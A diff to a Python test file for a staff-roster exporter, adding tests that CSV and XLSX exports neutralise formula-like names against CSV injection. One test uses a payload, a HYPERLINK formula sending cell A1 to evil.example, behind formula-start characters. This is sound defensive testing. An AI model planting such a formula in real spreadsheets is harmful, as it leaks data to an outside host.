@@ -24,7 +24,7 @@ from roster.model import (
 )
 from roster.schema import RosterFile, SolveSummary, parse
 from roster.validation import check
-from tests.cli.conftest import MONDAY, tiny_office
+from tests.cli.offices import MONDAY, tiny_office
 
 
 def day(n: int) -> dt.date:
@@ -252,3 +252,47 @@ def test_sheet_notes_explain_short_headings(tmp_path: Path, problem, roster) -> 
     ws = openpyxl.load_workbook(path)["Headcount"]
     assert ws["B2"].value == "HC"
     assert "HC Hành chính" in [c.value for c in ws["A"]]
+
+
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+@pytest.mark.parametrize("first", FORMULA_STARTS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
+def test_formula_like_names_are_neutralised(tmp_path: Path, problem, roster, first) -> None:
+    """OWASP CSV injection: a name starting with = + - @ tab or CR never reaches a spreadsheet
+    as a formula: CSV cells get a leading apostrophe, XLSX cells are text with the quote
+    prefix (no <f> element anywhere in the workbook)."""
+    import zipfile
+
+    name = first + PAYLOAD
+    victim = problem.staff[0].id
+    problem.staff[0].name = name
+    roster.tests.append(RapidTest(staff=victim, date=day(6)))
+    export.write_roster_csv(tmp_path / "roster.csv", problem, roster)
+    export.write_tests_csv(tmp_path / "tests.csv", problem, roster)
+    for f in ("roster.csv", "tests.csv"):
+        with open(tmp_path / f, encoding="utf-8-sig", newline="") as fh:
+            names = [r["name"] for r in csv.DictReader(fh) if r["staff_id"] == victim]
+        assert names and all(n == "'" + name for n in names), (f, names[:1])
+    export.write_xlsx(tmp_path / "roster.xlsx", problem, roster)
+    with zipfile.ZipFile(tmp_path / "roster.xlsx") as z:
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in z.read(n) for n in sheets)
+    wb = openpyxl.load_workbook(tmp_path / "roster.xlsx")
+    found = [
+        c
+        for ws in wb.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if isinstance(c.value, str) and c.value.endswith(PAYLOAD)  # XML turns CR into LF
+    ]
+    assert len(found) >= 2  # the Roster grid and the People sheet
+    assert all(c.data_type == "s" and c.quotePrefix for c in found)
+
+
+def test_harmless_text_is_left_alone(tmp_path: Path, problem, roster) -> None:
+    problem.staff[0].name = "Nguyễn Văn An = tổ trưởng"
+    export.write_roster_csv(tmp_path / "roster.csv", problem, roster)
+    text = (tmp_path / "roster.csv").read_text(encoding="utf-8-sig")
+    assert "Nguyễn Văn An = tổ trưởng" in text and "'Nguyễn" not in text
